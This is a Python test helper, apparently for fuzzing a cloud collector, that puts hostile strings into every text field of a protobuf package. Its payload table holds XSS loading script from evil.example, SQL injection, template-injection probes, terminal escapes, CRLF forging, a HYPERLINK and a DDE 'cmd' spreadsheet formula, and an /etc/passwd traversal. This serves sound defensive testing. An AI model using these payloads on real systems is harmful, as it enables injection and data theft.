"""Names as an attacker would choose them, in every text of a package.

Each field of the protocol that holds a text is found in its descriptor, so a new field
is attacked without a word here. What the collector refuses is told by the field's name.
"""

from collections.abc import Iterator
from typing import Any, NamedTuple

from google.protobuf.descriptor import FieldDescriptor
from google.protobuf.message import Message

from cloud.doors.clusters import limits
from cloud.errors import RefusedError
from proto.v1 import collector_pb2 as c
from proto.v1 import detector_pb2 as d
from tests.cloud import packages
from tests.cloud.packages import offsets, place, why

MARK = "zqx"
"""Stands in each text, so that it is found again."""
TEXTS = {
    "html": f'{MARK}"><script src=//evil.example></script><img src=x onerror=alert(1)>',
    "attribute": f"{MARK}' onmouseover=alert(1) x=\" autofocus onfocus=alert(1) `",
    "svg": f"{MARK}</title></text><svg onload=alert(1)><a href=javascript:alert(1)>",
    "address": f"javascript:alert(1)//{MARK}?a=1&b=2#c",
    "sql": f"{MARK}'; DROP TABLE endpoints; --\\' OR 1=1 %_%",
    "template": f"{MARK}{{{{7*7}}}}{{% include 'x' %}}${{7*7}}#{{7*7}}%(x)s%s{{0}}",
    "terminal": f"{MARK}\x1b]0;evil\x07\x1b[2J\x1b[31m\x9b31m\r\x08\x7f",
    "lines": f"{MARK}\nlevel=ERROR forged\r\nSet-Cookie: a=b\u2028\u2029\x85\v\f",
    "direction": f"{MARK}\u202egnp.exe\u2066\u202d\u200f\ufeff\u200b",
    "nul": f"{MARK}\0after",
    "formula": f'=HYPERLINK("http://evil.example/{MARK}","x")',
    "command": f"@SUM(1+1)*cmd|' /C calc'!{MARK}",
    "list": f'-1+1;"{MARK}",\t=1',
    "wide": f"{MARK}"
    + "\N{FACE WITH TEARS OF JOY}\U000e0001" * 8
    + "e"
    + "\u0301" * 40,
    "unbroken": MARK + "w" * 240,
    "dots": f"../../../../etc/passwd/{MARK}/..%2f%00",
}
SHORT = 30
"""Characters of a text that fit everywhere."""
LONG = MARK + "x" * 10_000


NEEDED: dict[str, dict[str, Any]] = {
    "Outward": {"name": "shop.example"},
    "Agent": {"node": "node-1", "state": "ready"},
    "DataType": {"name": "contact.email", "sensitivity": d.MEDIUM},
}
"""What may not be empty in a message of this name."""


class Place(NamedTuple):
    """A text of a package."""

    name: str
    path: tuple[str, ...]


def whole() -> c.Package:
    """A package with something in every field."""
    made = packages.package(
        offsets(0, 1),
        endpoints=[packages.endpoint("/a", [place(why=1)])],
        coverage=[packages.coverage({"paired": 1}, {"pairs": 1})],
        whys=[why()],
    )
    _fill(made, 0)
    limits.check(made)
    return made


def places() -> list[Place]:
    """All texts of a package, by the way to them."""
    return [Place(".".join(path), path) for path in _texts(whole().DESCRIPTOR, ())]


def attacked(where: Place, text: str, cluster: str) -> c.Package:
    """A package of its own cluster with the text in one place."""
    made = whole()
    made.cluster = cluster
    _put(made, where.path, text)
    return made


def town() -> Iterator[c.Package]:
    """A cluster for each text, with the text wherever the collector takes it."""
    for name, text in TEXTS.items():
        made = whole()
        for where in places():
            for put in (text, text[:SHORT]):
                tried = c.Package()
                tried.CopyFrom(made)
                _put(tried, where.path, put)
                try:
                    limits.check(tried)
                except RefusedError:
                    continue
                made = tried
                break
        made.cluster = made.cluster[:100] + name
        yield made


def _texts(kind: Any, path: tuple[str, ...]) -> Iterator[tuple[str, ...]]:
    for field in kind.fields:
        here = (*path, field.name)
        if _is_map(field):
            if field.message_type.fields_by_name["key"].type == field.TYPE_STRING:
                yield (*here, "key")
            if field.message_type.fields_by_name["value"].type == field.TYPE_STRING:
                yield (*here, "value")
        elif field.type == FieldDescriptor.TYPE_MESSAGE:
            yield from _texts(field.message_type, here)
        elif field.type == FieldDescriptor.TYPE_STRING:
            yield here


def _fill(message: Message, depth: int) -> None:
    """Puts one message into each repeated field that has none."""
    assert depth < 8
    for field in message.DESCRIPTOR.fields:
        if field.type != FieldDescriptor.TYPE_MESSAGE or _is_map(field):
            continue
        held = getattr(message, field.name)
        if field.is_repeated:
            kind = type(held.add()).DESCRIPTOR.name
            held.pop()
            for one in held or [held.add(**NEEDED.get(kind, {}))]:
                _fill(one, depth + 1)
        elif message.HasField(field.name) or isinstance(held, c.Workload):
            held.SetInParent()
            _fill(held, depth + 1)


def _put(message: Any, path: tuple[str, ...], text: str) -> None:
    field = message.DESCRIPTOR.fields_by_name[path[0]]
    held = getattr(message, path[0])
    if _is_map(field):
        is_text = field.message_type.fields_by_name["value"].type == field.TYPE_STRING
        key = text if path[1] == "key" else "app"
        held[key] = (text if path[1] == "value" else "x") if is_text else 1
    elif len(path) > 1:
        _put(held[0] if field.is_repeated else held, path[1:], text)
    elif field.is_repeated:
        held[:] = [text]
    else:
        setattr(message, path[0], text)


def _is_map(field: Any) -> bool:
    return bool(field.message_type and field.message_type.GetOptions().map_entry)
